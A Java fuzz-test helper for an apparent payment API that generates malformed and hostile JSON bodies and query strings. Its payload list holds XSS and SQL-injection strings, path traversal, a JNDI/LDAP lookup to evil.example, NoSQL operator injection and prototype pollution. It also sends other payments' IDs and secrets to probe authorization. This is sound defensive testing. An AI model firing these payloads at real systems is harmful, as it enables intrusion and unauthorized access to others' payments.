package dev.paylater.e2e.fuzz;

import java.util.Collections;
import java.util.List;
import java.util.SplittableRandom;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.StringNode;

/** Bodies and texts of which each could have come from somebody who tries everything. */
final class Mutations {

    private static final int MAX_FIELDS = 6;
    private static final int DEEPEST = 1200;
    private static final int MAX_ENTRIES = 4000;
    private static final int LONGEST_NAME = 40_000;

    private static final List<String> SCALARS =
            List.of(
                    "null",
                    "true",
                    "0",
                    "-1",
                    "1",
                    "-0",
                    "0.1",
                    "1e400",
                    "9223372036854775807",
                    "9223372036854775808",
                    "123456789012345678901234567890",
                    "[]",
                    "{}",
                    "[[[]]]",
                    "[null]",
                    "\"\"",
                    "\"\\u0000\"",
                    "\"\\ud800\"",
                    "\"\\u202e\\ufeff\"",
                    "\"ä ß 日本 \ud83d\ude00\"",
                    "\"sealed:1:AA\"",
                    "\"sealed:1:\"",
                    "\"sealed:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\"",
                    "\"https://evil.example/\"",
                    "\"javascript:alert(1)\"",
                    "\"<script>alert(1)</script>\"",
                    "\"' OR '1'='1\"",
                    "\"../../admin/merchants\"",
                    "\"${jndi:ldap://evil.example}\"",
                    "\"three_ds\"",
                    "\"automatic\"",
                    "\"USD\"",
                    "\"2026-02-30T25:61:00Z\"",
                    "{\"$ne\": null}",
                    "{\"$where\": \"1\"}",
                    "{\"__proto__\": {\"a\": 1}}",
                    "{\"\": \"\"}",
                    "{\"a.b\": 1, \"$c\": 2}");

    /** What stands behind the client_secret in an address. */
    private static final List<String> QUERIES =
            List.of(
                    "x=%80",
                    "%ff=1",
                    "=1",
                    "&&",
                    "client_secret=another",
                    "force_sync=%74rue",
                    "force_sync=maybe",
                    "expand_attempts=+999999999-12-31T23:59:59Z",
                    "%73tatus=succeeded",
                    "a=1" + "&a=1".repeat(1_000),
                    "merchant_id=" + "x".repeat(2_000));

    private final SplittableRandom random;
    private final FieldNames names;
    private final List<Target> others;

    Mutations(SplittableRandom random, FieldNames names, List<Target> others) {
        this.random = random;
        this.names = names;
        this.others = others;
    }

    SplittableRandom random() {
        return random;
    }

    /** A payment that this caller has no business with. */
    Target other() {
        return others.get(random.nextInt(others.size()));
    }

    /** An object with the fields that are usual and some that are not. */
    String body(String usual) {
        if (random.nextInt(4) == 0) {
            return "{" + usual + "," + merchantsMember() + "}";
        }
        if (random.nextInt(20) == 0) {
            return "{" + usual + "," + Target.asSent() + "}";
        }
        var strange =
                IntStream.range(0, random.nextInt(MAX_FIELDS + 1))
                        .mapToObj(_ -> member())
                        .collect(Collectors.joining(","));
        var body = strange.isEmpty() ? "{" + usual + "}" : "{" + usual + "," + strange + "}";
        return switch (random.nextInt(40)) {
            case 0 -> body.substring(0, random.nextInt(body.length()));
            case 1 -> body + body;
            case 2 -> "[" + body + "]";
            case 3 -> "";
            case 4 -> value();
            case 5 -> "\ufeff" + body;
            default -> body;
        };
    }

    /** One field that only the merchant may send, with a value that the merchant could. */
    private String merchantsMember() {
        var fields = Target.sentByMerchants();
        var field = fields.get(random.nextInt(fields.size()));
        return text(field) + ":" + Target.otherValue(field);
    }

    /** A name twice is a duplicate, which happens often enough by chance. */
    private String member() {
        return text(names.any(random)) + ":" + value();
    }

    String query() {
        return QUERIES.get(random.nextInt(QUERIES.size()));
    }

    String value() {
        if (random.nextInt(40) == 0) {
            return faulty();
        }
        return switch (random.nextInt(12)) {
            case 0, 1 -> "{" + member() + "," + member() + "}";
            case 2 -> "[" + value() + "," + value() + "]";
            case 3 -> text(other().paymentId());
            case 4 -> text(other().clientSecret());
            case 5 -> deep();
            case 6 -> text("x".repeat(1 << random.nextInt(1, random.nextInt(20) == 0 ? 19 : 12)));
            default -> SCALARS.get(random.nextInt(SCALARS.size()));
        };
    }

    /** Thousands of values, each of them wrong, under a long name. */
    private String faulty() {
        var wrong = SCALARS.get(random.nextInt(SCALARS.size()));
        var values = String.join(",", Collections.nCopies(random.nextInt(1, MAX_ENTRIES), wrong));
        return "{" + text("k".repeat(random.nextInt(1, LONGEST_NAME))) + ":[" + values + "]}";
    }

    private String deep() {
        var depth = random.nextInt(1, DEEPEST);
        return random.nextBoolean()
                ? "[".repeat(depth) + "]".repeat(depth)
                : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
    }

    static String text(String text) {
        return JsonMapper.shared().writeValueAsString(StringNode.valueOf(text));
    }
}
